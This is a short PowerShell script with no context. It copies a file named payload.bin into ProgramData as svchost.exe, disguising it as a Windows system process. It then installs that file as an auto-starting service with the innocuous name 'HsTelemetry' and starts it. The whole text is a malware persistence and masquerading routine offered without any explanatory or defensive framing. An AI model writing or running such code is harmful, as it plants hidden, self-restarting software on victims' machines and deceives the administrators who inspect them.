$bin = Join-Path $env:ProgramData 'hs\svchost.exe'
Copy-Item .\payload.bin $bin
New-Service -Name 'HsTelemetry' -BinaryPathName "$env:ProgramData\hs\svchost.exe" -StartupType Automatic
Start-Service HsTelemetry
